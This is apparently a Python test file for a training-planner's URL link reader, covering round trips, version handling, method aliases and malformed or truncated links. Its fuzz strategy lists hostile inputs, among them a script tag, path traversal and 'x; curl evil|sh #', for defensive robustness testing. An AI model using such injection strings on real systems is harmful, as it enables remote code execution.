"""Links: the round trip is the identity, and nothing a link holds can break its reader."""

import json
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.cli.plan_argument import read_plan
from planner.plan import FIELDS, Plan, try_plan
from planner.plan.chosen import differences
from planner.plan.link import MAX_CHARACTERS, MAX_KEYS, from_query, from_query_string, from_values
from planner.plan.migrations import VERSION
from planner.plan.presets import presets
from planner.plan.query import fields_of, to_query, to_query_string, to_short_query
from random_plans import plans

FIXTURE = Path(__file__).parents[1] / "fixtures" / "links.json"
LINKS = [link for link in json.loads(FIXTURE.read_text("utf-8"))["links"] if "gave" not in link]
"""From before versions rose; ``test_released_links.py`` has those with the numbers they gave."""


@settings(deadline=None, max_examples=150)
@given(plans())
def test_a_complete_link_reads_back_as_the_same_plan(plan: Plan) -> None:
    reading = from_query_string("https://headroom.example/plan?" + to_query_string(plan))
    assert reading.plan == plan
    assert (reading.problems, reading.notes, reading.unknown) == ((), (), ())


@settings(deadline=None, max_examples=150)
@given(plans())
def test_a_short_link_reads_back_as_the_same_plan(plan: Plan) -> None:
    query = to_short_query(plan)
    reading = from_query(query)
    assert reading.plan == plan
    assert (reading.problems, reading.notes) == ((), ())
    assert reading.preset == query["preset"]


def test_a_complete_link_has_the_version_and_every_field() -> None:
    query = to_query(Plan(), preset="grpo-7b@1")
    assert set(query) == {"v", "preset", *FIELDS}
    assert query["gpu_memory_utilization"] == "0.5"
    assert query["entropy"] == "false"
    assert query["config"] == ""


def test_a_plan_equal_to_a_preset_is_two_keys() -> None:
    for preset in presets().values():
        assert to_short_query(preset.plan).keys() == {"v", "preset"}


@pytest.mark.parametrize("link", LINKS, ids=lambda link: link["name"])
def test_released_links_open_for_ever(link: dict[str, Any]) -> None:
    reading = from_query_string(link["link"])
    assert reading.plan is not None
    assert reading.problems == ()
    assert len(link["fields"]) >= 5
    for field, value in link["fields"].items():
        assert getattr(reading.plan, field) == value, field
    if link.get("complete"):
        assert link["fields"].keys() == set(fields_of(1)) and reading.notes == ()
    carried = reading.calibration.factors if reading.calibration else ()
    found = [[one.rung, one.phase, one.quantity, one.factor, one.trials] for one in carried]
    assert found == link.get("factors", [])


def test_fields_that_are_not_given_are_named_in_a_note() -> None:
    reading = from_query({"v": str(VERSION), "model": "Qwen/Qwen2.5-1.5B", "gpus": "4"})
    assert reading.plan is not None
    assert (reading.plan.model, reading.plan.gpus) == ("Qwen/Qwen2.5-1.5B", 4)
    assert reading.problems == ()
    [note] = reading.notes
    assert f"{len(FIELDS) - 2} fields" in note
    assert "response_tokens" in note


def test_a_bad_value_falls_back_and_the_rest_stands() -> None:
    reading = from_query(
        {"v": "1", "preset": "grpo-7b@1", "response_tokens": "many", "gpus": "16", "dtype": "int3"}
    )
    assert reading.plan is not None
    assert reading.plan.gpus == 16
    assert reading.plan.response_tokens == presets()["grpo-7b@1"].plan.response_tokens
    assert [problem.field for problem in reading.problems] == ["response_tokens", "dtype"]
    assert "'many'" in reading.problems[0].message


def test_a_combination_that_cannot_be_drops_the_field_that_is_to_blame() -> None:
    reading = from_query({"preset": "grpo-7b@1", "sharding": "none", "prompt_tokens": "64"})
    assert reading.plan is not None
    assert (reading.plan.sharding, reading.plan.prompt_tokens) == ("fsdp2", 64)
    assert [problem.field for problem in reading.problems] == ["sharding"]


def test_unknown_keys_are_reported_with_the_nearest_field() -> None:
    reading = from_query({"preset": "grpo-7b@1", "respons_tokens": "5", "page": "2"})
    assert reading.plan == presets()["grpo-7b@1"].plan
    assert reading.unknown == ("respons_tokens", "page")
    assert reading.problems[0].fix == "Did you mean response_tokens?"
    assert from_query({"preset": "grpo-7b@1", "page": "2"}, ignore=("page",)).problems == ()


def test_a_key_given_twice_is_reported() -> None:
    reading = from_query({"preset": "grpo-7b@1", "gpus": ["4", "16"]})
    assert reading.plan is not None and reading.plan.gpus == 16
    assert [problem.field for problem in reading.problems] == ["gpus"]
    assert "2 times" in reading.problems[0].message


@pytest.mark.parametrize(
    ("version", "says"),
    [
        ("10", "reads up to version 9"),
        ("0", "never was"),
        ("one", "'one'"),
        ("9" * 40, "99', not the number"),
    ],
)
def test_a_version_we_cannot_read_is_refused_in_a_sentence(version: str, says: str) -> None:
    reading = from_query({"v": version, "preset": "grpo-7b@1"})
    assert reading.plan is None
    [problem] = reading.problems
    assert problem.field == "v"
    assert says in problem.message


def test_a_preset_we_do_not_have_is_reported_and_the_fields_stand() -> None:
    reading = from_query({"v": "1", "preset": "grpo-7b@99", "gpus": "16"})
    assert reading.plan is not None and reading.plan.gpus == 16
    assert reading.preset == ""
    assert "grpo-7b@99" in reading.problems[0].message
    assert "grpo-7b@1" in reading.problems[0].fix


@pytest.mark.parametrize("name", ["dapo", "gspo", "dr-grpo", "DAPO"])
def test_an_old_link_means_grpo_by_a_variation_and_says_so(name: str) -> None:
    """Until version 8 a plan could not say which variation was meant: it stays GRPO's."""
    reading = from_query({"v": "8", "preset": "grpo-7b@1", "method": name, "kl": "loss"})
    assert reading.plan is not None and reading.problems == ()
    assert (reading.plan.variation, reading.plan.kl) == ("none", "loss")
    assert reading.notes == (
        f"{name} is planned as grpo, whose memory it needs.",
        f"It meant that in links before version 9; v=9 plans {name.lower()} itself.",
    )


@pytest.mark.parametrize(
    ("written", "name"),
    [
        ("dapo", "dapo"),
        ("DAPO", "dapo"),
        ("Dr. GRPO", "dr-grpo"),
        ("dr_grpo", "dr-grpo"),
        ("gspo", "gspo"),
        ("CISPO", "cispo"),
    ],
)
def test_a_variation_may_stand_in_place_of_the_method(written: str, name: str) -> None:
    reading = from_query({"v": str(VERSION), "preset": "sft-8b@1", "method": written})
    plan = reading.plan
    assert plan is not None and reading.problems == ()
    assert (plan.method, plan.variation, plan.kl, plan.reference) == (
        "grpo", name, "none", "none",
    )
    query = to_query(plan)
    assert (query["method"], query["variation"]) == ("grpo", name)
    assert from_query(query).plan == plan == from_query(to_short_query(plan)).plan
    assert Plan(method=written) == Plan(method="grpo", variation=name)


@pytest.mark.parametrize(
    ("fields", "blamed"),
    [
        ({"method": "ppo", "variation": "dapo"}, "variation"),
        ({"method": "sft", "variation": "gspo"}, "variation"),
        ({"method": "gspo", "variation": "dapo"}, "method"),
        ({"method": "grpo", "variation": "vapo"}, "variation"),
    ],
)
def test_a_variation_of_another_method_is_refused_by_name(
    fields: dict[str, str], blamed: str
) -> None:
    plan, problems = try_plan(fields)
    assert plan is None
    (problem,) = problems
    assert problem.field == blamed
    assert fields[blamed].upper() in problem.sentence.upper()


@pytest.mark.parametrize("version", [{}, {"v": "1"}])
@pytest.mark.parametrize("name", ["rloo", "RLOO", "reinforce++", "reinforce-plus-plus"])
def test_an_old_link_means_grpo_by_a_method_that_came_later(
    name: str, version: dict[str, str]
) -> None:
    reading = from_query({**version, "preset": "grpo-7b@1", "method": name})
    assert reading.plan == presets()["grpo-7b@1"].plan and reading.problems == ()
    planned, itself = reading.notes
    assert planned == f"{name} is planned as grpo, whose memory it needs."
    assert f"v=2 plans {name.lower()} itself" in itself


@pytest.mark.parametrize(
    ("name", "method"),
    [("rloo", "rloo"), ("reinforce++", "reinforce++"), ("reinforce-plus-plus", "reinforce++")],
)
def test_a_link_of_today_means_the_method_itself(name: str, method: str) -> None:
    reading = from_query({"v": "2", "preset": "grpo-7b@1", "method": name})
    assert reading.plan is not None and reading.plan.method == method
    assert (reading.problems, reading.notes) == ((), ())
    assert Plan(method=name).method == method
    assert from_query_string(to_query_string(reading.plan)).plan == reading.plan


TYPED = ("reinforce++", "reinforce%2B%2B", "reinforce  ", "REINFORCE++", "Reinforce%2b%2B")
"""As the documents have it, encoded, as a query decodes it, and in capitals."""


@pytest.mark.parametrize("text", TYPED)
def test_a_method_with_pluses_is_understood_in_a_query(text: str) -> None:
    """A plus is a space in a query: the name as it is written is the name that is meant."""
    typed = read_plan(f"preset=grpo-7b@1&method={text}&gpus=8")
    assert typed.plan is not None and typed.plan.method == "reinforce++"
    assert typed.problems == () and not any("planned as it" in note for note in typed.notes)
    link = from_query_string(f"?v=2&method={text}&preset=grpo-7b@1")
    assert link.plan is not None and link.plan.method == "reinforce++" and link.problems == ()
    # A link of the first version, or of none, says by the same word what it always said.
    for old in (f"?v=1&method={text}&preset=grpo-7b@1", f"?method={text}&preset=grpo-7b@1"):
        for read in (from_query_string, read_plan):
            reading = read(old)
            assert reading.plan == presets()["grpo-7b@1"].plan and reading.problems == ()
            assert reading.notes[0].lower().startswith("reinforce++ is planned as grpo")
    assert Plan(method="REINFORCE++").method == "reinforce++"
    assert Plan(method="GRPO").method == "grpo"


@pytest.mark.parametrize("text", ["rein force", "+reinforce++", "reinforce+"])
def test_spaces_are_pluses_of_a_known_name_only(text: str) -> None:
    reading = from_query_string(f"v=2&method={text}&gpus=8")
    assert [problem.field for problem in reading.problems] == ["method"]


IN_4 = dict.fromkeys(
    ("autocast", "base_dtype", "chunk_compile", "chunk_tokens", "optimizer_step", "temperature"),
    "4",
)


IN_5 = ("rollout_overlap", "resampling_factor", "reward_concurrency", "reward_seconds")
IN_6 = ("eval_steps", "rollout_quantization", "save_steps", "validation_responses")
IN_7 = (
    *("async_scheduling", "disk_bytes_per_second"),
    *("rollout_expert_parallel", "sync_bucket_bytes"),
)

IN_8 = ("mean_prompt_tokens",)
IN_9 = ("variation",)


@pytest.mark.parametrize("sharding", ["zero1", "zero2", "zero3"])
def test_an_old_link_reduces_under_zero_in_what_it_computes_in(sharding: str) -> None:
    """Until version 8 ``reduce_dtype`` moved nothing there, and complete links carried it."""
    fields = f"sharding={sharding}&gpus=8&framework=plain&method=sft&dtype=bf16&reduce_dtype=fp32"
    old, new = (from_query_string(f"v={version}&{fields}").plan for version in (8, 9))
    assert old is not None and new is not None
    assert (old.reduce_dtype, new.reduce_dtype) == ("bf16", "fp32")
    ddp = from_query_string(f"v=8&{fields}".replace(sharding, "ddp")).plan
    assert ddp is not None and ddp.reduce_dtype == "fp32"


def test_a_complete_old_link_leaves_nothing_out() -> None:
    """A field that came with a later version is none that the link's writer forgot."""
    query = {field: text for field, text in to_query(Plan()).items() if field in fields_of(1)}
    reading = from_query({**query, "v": "1"})
    assert (reading.plan, reading.notes, reading.problems) == (Plan(), (), ())
    later = {"reinforce_baseline": "2", "lora_dropout": "3", "grade_autocast": "3", **IN_4}
    later |= dict.fromkeys(IN_5, "5") | dict.fromkeys(IN_6, "6") | dict.fromkeys(IN_7, "7")
    later |= dict.fromkeys(IN_8, "8") | dict.fromkeys(IN_9, "9")
    assert set(FIELDS) - set(fields_of(1)) == later.keys()
    for field, version in later.items():
        assert field in from_query({**query, "v": version}).notes[0]


@pytest.mark.parametrize(
    "query",
    [
        {f"k{number}": "" for number in range(MAX_KEYS + 1)},
        {"config": "A" * (MAX_CHARACTERS + 1)},
        {"gpus": ["8"] * (MAX_KEYS + 1)},
    ],
)
def test_absurd_sizes_are_refused(query: dict[str, Any]) -> None:
    for reading in (from_query(query), from_query_string(urlencode(query, doseq=True))):
        assert reading.plan is None
        assert [problem.field for problem in reading.problems] == ["link"]


@pytest.mark.parametrize("text", ["８", "1_000", "0x10", "1e3", " ", "8.0", "nan", "True", "９９"])
def test_a_whole_number_is_written_in_plain_digits(text: str) -> None:
    reading = from_query({"preset": "grpo-7b@1", "prompt_tokens": text})
    assert [problem.field for problem in reading.problems] == ["prompt_tokens"]
    assert reading.plan == presets()["grpo-7b@1"].plan


@pytest.mark.parametrize("text", ["nan", "inf", "-0.5", "1e999", "0", "1", "1,5", "٠.٥"])
def test_a_share_is_a_number_inside_its_range(text: str) -> None:
    reading = from_query({"preset": "grpo-7b@1", "gpu_memory_utilization": text})
    assert [problem.field for problem in reading.problems] == ["gpu_memory_utilization"]


def test_values_of_json_keep_their_own_types() -> None:
    reading = from_values({"preset": "grpo-7b@1", "gpus": 16, "entropy": True, "steps": "20"})
    assert reading.plan is not None and reading.problems == ()
    assert (reading.plan.gpus, reading.plan.entropy, reading.plan.steps) == (16, True, 20)
    wrong = from_values({"preset": "grpo-7b@1", "gpus": [8], "steps": None, "entropy": 1})
    assert {problem.field for problem in wrong.problems} == {"gpus", "steps", "entropy"}


def test_surrounding_spaces_do_not_matter() -> None:
    reading = from_query_string("preset=grpo-7b@1&gpus=+16+&model=+Qwen/Qwen2.5-7B%20")
    assert reading.plan is not None and reading.problems == ()
    assert (reading.plan.gpus, reading.plan.model) == (16, "Qwen/Qwen2.5-7B")


hostile = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        ("", "<script>", "x; curl evil|sh #", "../../etc/passwd", "-1", "9" * 30, "1e308", "\x00")
    ),
)


@settings(deadline=None, max_examples=400)
@given(
    st.dictionaries(
        st.one_of(st.sampled_from((*FIELDS, "v", "preset")), st.text(max_size=20)),
        st.one_of(hostile, st.lists(hostile, max_size=3)),
        max_size=12,
    )
)
def test_no_query_breaks_the_reader(query: dict[str, str | list[str]]) -> None:
    reading = from_query(query)
    assert reading.plan is not None or reading.problems
    for problem in reading.problems:
        assert problem.field and problem.message
        assert "\n" not in problem.sentence and "\x00" not in problem.sentence


@settings(deadline=None, max_examples=100)
@given(st.text(max_size=200))
def test_no_text_breaks_the_reader(text: str) -> None:
    reading = from_query_string(text)
    assert reading.plan is not None or reading.problems


@settings(deadline=None, max_examples=60)
@given(plans())
def test_what_a_link_says_survives_a_browser(plan: Plan) -> None:
    """A browser hands values back decoded, one list a key."""
    assert from_query(parse_qs(to_query_string(plan), keep_blank_values=True)).plan == plan


def test_what_a_page_shows_beside_its_plan_is_no_mistake_in_a_pasted_address() -> None:
    own = to_query_string(Plan(gpus=4))
    pasted = from_query_string(f"http://127.0.0.1:8501/scaling?{own}&peak=trainer&compare=v%3D2")
    assert pasted.problems == () and pasted.plan == Plan(gpus=4)


LORA = presets()["grpo-lora-1gpu@1"].plan


@pytest.mark.parametrize("part", [0.05, 0.3, 0.6, 0.95])
@pytest.mark.parametrize("chosen", [None, {"finetuning"}])
def test_a_complete_link_that_was_cut_off_says_so(part: float, chosen: set[str] | None) -> None:
    """Its adapters may be among what was lost, and a preset or a default stands in for them."""
    whole = urlencode(to_query(LORA, "grpo-7b@1", chosen))
    start = len(urlencode(to_query(LORA, "grpo-7b@1", chosen)).partition("&model=")[0]) + 60
    cut = from_query_string(whole[: max(start, round(len(whole) * part))])
    [problem] = [problem for problem in cut.problems if problem.field == "link"]
    assert "was cut off" in problem.message and "grade_autocast" in problem.message
    assert from_query_string(whole).problems == ()


def test_a_link_that_was_cut_off_in_its_first_words_says_it_once() -> None:
    whole = urlencode(to_query(LORA, "grpo-7b@1", {"finetuning", "lora_rank"}))
    cut = from_query_string(whole.partition("&model=")[0][:-3])
    [problem] = cut.problems
    assert "all of its fields are missing" in problem.message and cut.told == ()


def test_a_preset_that_there_is_not_is_one_thing_to_correct_with_the_nearest_name() -> None:
    reading = from_query_string(f"v={VERSION}&preset=grpo-9b@1&gpus=16")
    [problem] = reading.problems
    assert problem.fix == "Did you mean grpo-7b@1?" and reading.told == ()
    [other] = from_query_string(f"v={VERSION}&preset=xxxxxxxx").problems
    assert other.fix.startswith("Known: grpo-7b@1, ")


def test_a_link_that_was_cut_off_in_a_name_that_begins_like_another_says_so() -> None:
    whole = urlencode(to_query(LORA, "grpo-7b@1", {"finetuning"}))
    for end in ("&v", "&gpu"):
        last = {"&v": "&validation_response_tokens", "&gpu": "&gpu_bytes"}[end]
        cut = from_query_string(whole.partition(last)[0] + end)
        [problem] = cut.problems
        assert problem.field == "link" and "was cut off" in problem.message
        assert cut.plan is not None and cut.plan.gpu == LORA.gpu


def test_a_short_link_that_was_cut_off_has_no_preset_and_says_so() -> None:
    whole = to_query_string(LORA.changed(lora_rank=64), short=True)
    assert whole.startswith(f"v={VERSION}&lora_rank=64") and "&preset=" in whole
    cut = from_query_string(whole.partition("&preset=")[0])
    assert cut.problems == () and "and no preset" in cut.told[0]
    assert from_query_string(whole).told == ()
    # Somebody's own words give no version, and are not doubted.
    assert from_query_string("gpus=4&finetuning=lora").told == ()


@pytest.mark.parametrize("framework", ["trl", "verl"])
@pytest.mark.parametrize("head", [{}, {"preset": "grpo-7b@1"}])
@pytest.mark.parametrize("chosen", [None, ("gpus",)])
def test_a_complete_link_whose_framework_alone_was_changed_opens(
    framework: str, head: dict[str, str], chosen: tuple[str, ...] | None
) -> None:
    plan = presets()["grpo-7b@1"].plan.changed(gpus=16)
    query = {**to_query(plan, chosen=chosen), **head, "framework": framework}
    reading = from_query(query)
    assert reading.plan is not None and reading.problems == ()
    assert (reading.plan.framework, reading.plan.gpus) == (framework, 16)
    assert "The link changes Plain PyTorch to" in reading.told[0]
    assert reading.switch is not None and reading.switch.before == plan
    for change in differences(dict(plan), dict(reading.plan)):
        said = f"{change.field} {change.before} → {change.after}"
        assert (said in reading.told[0]) == (not change.field.startswith("framework")), said


@pytest.mark.parametrize("framework", ["plain", "verl"])
def test_a_short_link_whose_framework_alone_was_changed_opens(framework: str) -> None:
    """Its version is still the one of the framework that it was written for."""
    trl, _ = try_plan({"framework": "trl", "gpus": 8, "response_tokens": 900})
    assert trl is not None and to_short_query(trl)["framework_version"] == trl.framework_version
    reading = from_query({**to_short_query(trl), "framework": framework})
    assert reading.plan is not None and reading.problems == ()
    assert (reading.plan.framework, reading.plan.response_tokens) == (framework, 900)
    assert reading.switch is not None and reading.switch.before == trl
    assert "The link changes TRL to" in reading.told[0]
    assert "reduce_dtype bf16 → fp32" in reading.told[0]


def test_another_frameworks_version_by_hand_is_a_problem() -> None:
    given = {"preset": "grpo-7b@1", "framework": "trl", "framework_version": "0.9.1"}
    assert [each.field for each in from_query(given).problems] == ["framework_version"]


def test_a_field_that_was_chosen_stays_when_a_links_framework_is_changed() -> None:
    plan = presets()["grpo-7b@1"].plan
    query = {**to_query(plan, chosen=("gpu_memory_utilization",)), "framework": "trl"}
    kept = from_query(query).plan
    assert kept is not None and kept.gpu_memory_utilization == plan.gpu_memory_utilization
    followed = from_query({**query, "set": ""}).plan
    assert followed is not None and followed.gpu_memory_utilization == 0.3


@pytest.mark.parametrize(
    ("given", "named", "followed"),
    [
        ({"framework": "trl"}, "changes Plain PyTorch to TRL", "gpu_memory_utilization 0.5 → 0.3"),
        ({"method": "ppo"}, "changes GRPO to PPO", "critic none → separate"),
        (
            {"method": "dpo", "framework": "trl"},
            "changes GRPO and Plain PyTorch to DPO and TRL",
            "rollout vllm-colocated → none",
        ),
    ],
)
def test_a_preset_with_another_method_or_framework_says_what_followed(
    given: dict[str, str], named: str, followed: str
) -> None:
    """Only that: what the link gives besides is on both sides."""
    reading = from_query({"preset": "grpo-7b@1", "steps": "9", **given})
    assert reading.plan is not None and reading.switch is not None
    assert reading.switch.before == presets()["grpo-7b@1"].plan.changed(steps=9)
    assert named in reading.told[0] and followed in reading.told[0]
    assert reading.told[0] == reading.switch.note and "steps" not in reading.told[0]


def test_nothing_followed_where_the_link_says_it_all() -> None:
    trl = from_query({"preset": "grpo-7b@1", "framework": "trl"}).plan
    assert trl is not None
    for query in (to_query(trl), to_short_query(trl), {"preset": "grpo-7b@1", "method": "rloo"}):
        assert from_query({"v": str(VERSION), **query}).switch is None


@pytest.mark.parametrize("complete", [True, False])
def test_a_framework_that_cannot_leaves_the_plan_as_it_was(complete: bool) -> None:
    plan = presets()["sft-8b@1"].plan
    query = to_query(plan) if complete else {"preset": "sft-8b@1"}
    reading = from_query({**query, "framework": "verl"})
    assert reading.plan == plan and reading.switch is None
    [problem] = reading.problems
    assert problem.message == "verl's SFT trainer is not planned."
